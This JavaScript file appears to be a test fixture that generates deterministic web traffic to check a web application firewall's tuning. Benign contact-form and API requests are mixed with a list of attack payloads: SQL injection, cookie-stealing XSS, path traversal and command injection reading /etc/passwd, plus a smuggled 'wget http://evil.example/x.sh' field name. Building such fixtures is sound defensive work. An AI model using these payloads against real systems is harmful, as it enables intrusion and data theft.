'use strict';
// Generated traffic for tune's tests and benchmark: a site whose benign requests trip CRS at paranoia level 2
// (a contact form's free text, JSON APIs whose field names look like SQL or shell commands), mixed with real
// attacks from a few clients. Deterministic for a given seed. Requests are the shape @rampart/tuning's
// HttpRequest has (bytes as latin1 strings).

/** mulberry32: a small seeded PRNG, so that a run can be repeated exactly. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = (rand, list) => list[Math.floor(rand() * list.length)];
const utf8 = (s) => Buffer.from(s, 'utf8').toString('latin1');

/** Free text people write in a contact form; many trip CRS's PL2 SQL injection rules (942200, 942440, 942130...). */
const COMMENTS = [
  "Hi, it's me again; where's my order? (order #123)",
  "I'd like to select a different size, or maybe return it -- thanks!",
  "We don't want union membership, just a refund -- from your store",
  "She said 'hello' and \"goodbye\"; then: it's over...",
  'Is 1=1 true? If so, then the answer is yes.',
  "Can you update my address to: 12 O'Connor St., apt 3?",
  "Where's the invoice for last month's order? I can't find it -- please resend",
  "My wife's card was charged twice; could you check? It's urgent",
  'Great service, thanks a lot!',
  'Please call me back tomorrow morning.',
  "Delivery was late again -- third time this month; what's going on?",
  "I can't log in: it says 'invalid token'. Help?",
];

const NAMES = ['Ann', 'Bob', 'Chloé', 'Dmitri', 'Eve', 'Fatima', 'Gustav', 'Hiro', "Siobhán O'Neil"];

/** Diagnostics options of an operations API whose names are shell commands (932236, 932260 on ARGS_NAMES). */
const DIAGNOSTICS = ['traceroute', 'nslookup', 'netstat', 'ifconfig'];

function formBody(fields) {
  return fields.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&');
}

function request(method, target, headers, body, clientIp) {
  const all = [['Host', 'shop.example'], ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'], ['Accept', '*/*'], ...headers];
  if (body.length > 0 || method === 'POST') all.push(['Content-Length', String(body.length)]);
  return {
    method,
    target,
    protocol: 'HTTP/1.1',
    headers: all,
    body,
    connection: { clientIp, clientPort: 40000 + (clientIp.length * 7919) % 20000, serverIp: '192.0.2.10', serverPort: 443 },
    notes: [],
  };
}

const FORM = ['Content-Type', 'application/x-www-form-urlencoded'];
const JSON_TYPE = ['Content-Type', 'application/json'];

function contact(rand, client, comment) {
  const body = utf8(formBody([['name', pick(rand, NAMES)], ['email', 'someone@example.com'], ['comment', comment]]));
  return request('POST', '/contact', [FORM], body, client);
}

function diagnostics(rand, client, host) {
  const opts = { host };
  for (const d of DIAGNOSTICS) if (rand() < 0.6) opts[d] = rand() < 0.5;
  if (Object.keys(opts).length === 1) opts.traceroute = true;
  return request('POST', '/api/v1/diagnostics', [JSON_TYPE], JSON.stringify(opts), client);
}

function password(rand, client, user, passwd) {
  return request('POST', `/api/v1/users/${user}/password`, [JSON_TYPE], JSON.stringify({ passwd, confirm: passwd }), client);
}

function report(rand, client, schema) {
  return request('POST', '/api/v1/reports', [JSON_TYPE], JSON.stringify({ information_schema: schema, 'order by': pick(rand, ['date', 'total', 'customer']) }), client);
}

/** Benign traffic: who sends it and what it looks like. */
function benign(rand) {
  const client = `10.1.${Math.floor(rand() * 4)}.${1 + Math.floor(rand() * 250)}`;
  const r = rand();
  if (r < 0.45) return { label: 'contact form', request: contact(rand, client, pick(rand, COMMENTS)) };
  if (r < 0.65) return { label: 'diagnostics API', request: diagnostics(rand, client, pick(rand, ['db1.internal', 'cache.internal', '10.0.0.5'])) };
  if (r < 0.8) return { label: 'password API', request: password(rand, client, 1 + Math.floor(rand() * 5000), `S3cure-${Math.floor(rand() * 1e6)}`) };
  if (r < 0.9) return { label: 'reports API', request: report(rand, client, pick(rand, ['billing', 'sales', 'inventory'])) };
  return { label: 'product page', request: request('GET', `/products?id=${1 + Math.floor(rand() * 900)}&sort=price`, [], '', client) };
}

/** Real attacks, each of which CRS at PL2 blocks with or without the exclusions a good tuning proposes. */
const ATTACKS = [
  (rand, c) => request('GET', "/products?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--", [], '', c),
  (rand, c) => contact(rand, c, "x' OR '1'='1' --"),
  (rand, c) => contact(rand, c, '<script>alert(document.cookie)</script>'),
  (rand, c) => contact(rand, c, '<img src=x onerror=alert(1)>'),
  (rand, c) => diagnostics(rand, c, '127.0.0.1; cat /etc/passwd'),
  (rand, c) => request('POST', '/api/v1/diagnostics', [JSON_TYPE], JSON.stringify({ host: 'db1', 'traceroute; wget http://evil.example/x.sh': true }), c),
  (rand, c) => request('GET', '/download?file=../../../../etc/passwd', [], '', c),
  (rand, c) => report(rand, c, "x' UNION SELECT table_name FROM information_schema.tables--"),
  (rand, c) => password(rand, c, 7, "x'; DROP TABLE users; --"),
  (rand, c) => request('GET', '/search?q=%3Csvg/onload=alert(1)%3E', [], '', c),
];

const ATTACKERS = ['198.51.100.23', '198.51.100.77', '203.0.113.9'];

/**
 * `count` requests: 5% attacks (in turn from ATTACKS, from three clients), the rest benign from a thousand
 * clients. Each comes with its kind, so a test can check what a tuning lets through.
 */
function* scenario(count, seed = 1) {
  const rand = prng(seed);
  for (let i = 0; i < count; i++) {
    if (rand() < 0.05) {
      const n = Math.floor(rand() * ATTACKS.length);
      yield { kind: 'attack', label: `attack ${n + 1}`, request: ATTACKS[n](rand, pick(rand, ATTACKERS)) };
    } else yield { kind: 'benign', ...benign(rand) };
  }
}

/** Every attack once, from the first attacker. */
function allAttacks(seed = 1) {
  const rand = prng(seed);
  return ATTACKS.map((a, n) => ({ kind: 'attack', label: `attack ${n + 1}`, request: a(rand, ATTACKERS[0]) }));
}

module.exports = { scenario, allAttacks, ATTACKERS, prng };
